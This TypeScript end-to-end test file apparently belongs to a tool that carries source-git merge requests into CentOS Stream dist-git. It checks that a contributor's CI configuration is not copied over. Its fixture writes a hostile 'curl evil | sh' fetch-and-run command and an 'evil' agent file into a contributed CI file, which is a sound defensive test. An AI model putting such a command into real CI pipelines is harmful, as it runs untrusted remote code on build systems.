// Production never copies a contributor's CI file: the real configuration as two processes on Redis where there is one,
// and its rule on the embedded queue everywhere.
import { mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { describe, expect, it } from "@jest/globals";
import { eventually } from "../support/eventually.ts";
import { CI_FILE, contribute, helloSource } from "../support/package.ts";
import { hasRedis, startRedis } from "../support/redis-server.ts";
import { type Stage, type StageOptions, setStage } from "../support/stage.ts";

const GROUPS = { source: "redhat/centos-stream/src", dist: "redhat/centos-stream/rpms" };
const ROUTE = {
  name: "centos-stream",
  source: `${GROUPS.source}/{package}`,
  branches: ["c9s"],
  dist: `${GROUPS.dist}/{package}`,
};

async function onStage(options: Omit<StageOptions, "home">, play: (stage: Stage) => Promise<void>): Promise<void> {
  const home = mkdtempSync(join(tmpdir(), "tandem-e2e-"));
  const stage = await setStage({ home, groups: GROUPS, ...options });
  try {
    await play(stage);
  } finally {
    await stage.close();
    rmSync(home, { recursive: true, force: true });
  }
}

async function ciFileStays(stage: Stage): Promise<void> {
  const pkg = await stage.package("glibc");
  const { mergeRequest } = await contribute(stage.double, pkg, stage.alice, {
    commits: [
      {
        message: "Code and CI\n",
        files: {
          "hello.c": helloSource("Hi"),
          ".distro/.gitlab-ci.yml": CI_FILE.replace("echo", "curl evil | sh; echo"),
          ".distro/.gitlab/agents/evil.yml": "evil\n",
        },
      },
    ],
  });
  await eventually(() => stage.comments(mergeRequest)[0]?.includes("in step"), { what: "a comment" });
  const pair = stage.distMergeRequest(pkg, mergeRequest.iid);
  const fork = stage.double.view.project(pair?.sourceProjectId ?? 0);
  if (!pair || !fork) throw new Error("there is no pair");
  const read = (path: string) => stage.double.view.file(fork, pair.sourceBranch, path);
  expect(await read("0001-Code-and-CI.patch")).toContain("Hi");
  expect(await read(".gitlab-ci.yml")).toBe(CI_FILE);
  expect(await read(".gitlab/agents/evil.yml")).toBeUndefined();
}

(hasRedis ? describe : describe.skip)("production, API and worker as processes of their own", () => {
  it("R18, D31: serves the production groups and leaves dist-git's CI alone", async () => {
    const redis = await startRedis();
    try {
      await onStage({ environment: "production", queue: redis.url, split: true }, ciFileStays);
    } finally {
      await redis.stop();
    }
  });
});

describe("a route without copyCiFile", () => {
  it("D31: leaves dist-git's CI alone", async () => {
    await onStage({ environment: "development", config: { routes: [ROUTE] } }, ciFileStays);
  });
});
